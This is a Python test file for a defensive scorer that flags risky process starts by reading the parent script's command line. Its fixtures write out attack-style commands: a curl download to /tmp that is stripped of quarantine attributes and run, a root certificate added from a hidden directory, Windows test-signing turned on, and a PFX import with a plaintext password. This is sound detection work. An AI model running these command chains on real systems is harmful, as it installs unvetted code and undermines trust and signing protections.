"""The script of the parent that a process start is one command of."""

from __future__ import annotations

import pytest
from codesignrisk_core.scorer import Scorer

CLEAR = "xattr -c /tmp/u"
FETCH = "curl -fsSL http://203.0.113.7/u -o /tmp/u"


def found(scorer: Scorer, image: str, line: str, parent: str, parent_line: str) -> list[str]:
    record = {"EventCode": "1", "Image": image, "CommandLine": line, "ParentImage": parent}
    names = scorer.assess({**record, "ParentCommandLine": parent_line})["codesign_indicators"] or ()
    return [name for name in names if not name.startswith("parent_")]


@pytest.mark.parametrize(
    ("parent_line", "more"),
    [
        (f"bash -c {FETCH}; {CLEAR}; chmod +x /tmp/u; /tmp/u", ["fetched_and_started"]),
        (f'bash -c "{FETCH}; {CLEAR}"', ["cleared_file_fetched"]),
        # other commands than this one
        (f"bash -c {FETCH}; xattr -c /tmp/v; /tmp/v", []),
        ("bash", []),
        ("", []),
        # no shell, whatever its words
        (f"/Applications/Notes.app/Contents/MacOS/Notes {FETCH}; {CLEAR}; /tmp/u", []),
    ],
)
def test_what_the_script_does_besides(scorer: Scorer, parent_line: str, more: list[str]) -> None:
    names = found(scorer, "/usr/bin/xattr", CLEAR, "/bin/bash", parent_line)
    assert sorted(names) == sorted(["attributes_clear", "target_user_writable", *more])


def test_a_script_behind_its_interpreter(scorer: Scorer) -> None:
    line = "/bin/sh /usr/sbin/update-ca-certificates --fresh"
    around = "bash -c cp /dev/shm/.k/a.crt /usr/local/share/ca-certificates/; update-ca-certificates --fresh"
    assert found(scorer, "/usr/sbin/update-ca-certificates", line, "/bin/bash", around) == [
        "add_trust_anchor",
        "input_user_writable",
        "input_hidden",
        "refresh_trust",
    ]


def test_windows(scorer: Scorer) -> None:
    line = "certutil -addstore root C:\\lab\\a.cer"
    around = f'cmd.exe /c "bcdedit /set testsigning on & {line}"'
    image = "C:\\Windows\\System32\\certutil.exe"
    names = found(scorer, image, line, "C:\\Windows\\System32\\cmd.exe", around)
    assert names == ["enable_test_signing", "add_to_store_root"]


def test_the_message_begins_with_what_the_process_does_itself(scorer: Scorer) -> None:
    line = "certutil -addstore root C:\\lab\\a.cer"
    image, cmd = "C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\System32\\cmd.exe"
    record = {"EventCode": "1", "Image": image, "CommandLine": line, "ParentImage": cmd}
    verdict = scorer.assess({**record, "ParentCommandLine": f'cmd.exe /c "bcdedit /set testsigning on & {line}"'})
    assert str(verdict["codesign_message"]).split("; ") == [
        "certutil adds a certificate to LocalMachine\\root",
        "in the same script, bcdedit lets Windows load test-signed drivers",
        "parent cmd.exe",
    ]


def test_secrets_of_the_script_are_masked(scorer: Scorer) -> None:
    line = "certutil -addstore root C:\\lab\\a.cer"
    record = {
        "EventCode": "1",
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": line,
        "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        "ParentCommandLine": f'cmd.exe /c "certutil -p Geheim99 -importpfx C:\\lab\\b.pfx & {line}"',
    }
    verdict = scorer.assess(record)
    assert "clear_password" in verdict["codesign_indicators"]
    assert "Geheim99" not in str(verdict)


def test_the_sentence_says_whose_act_it_is(scorer: Scorer) -> None:
    record = {"EventCode": "1", "Image": "/usr/bin/xattr", "CommandLine": CLEAR, "ParentImage": "/bin/bash"}
    verdict = scorer.assess({**record, "ParentCommandLine": f'bash -c "{FETCH}; {CLEAR}"'})
    assert "in the same script, the same line fetches the file" in str(verdict["codesign_reasons"])
    assert verdict["codesign_tool"] == "xattr"


def test_a_quiet_command_stays_quiet(scorer: Scorer) -> None:
    around = "cmd.exe /c certutil -addstore root C:\\lab\\a.cer & whoami /all"
    record = {"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all", "ParentCommandLine": around}
    assert scorer.assess({"EventCode": "1", **record})["codesign_score"] == 0
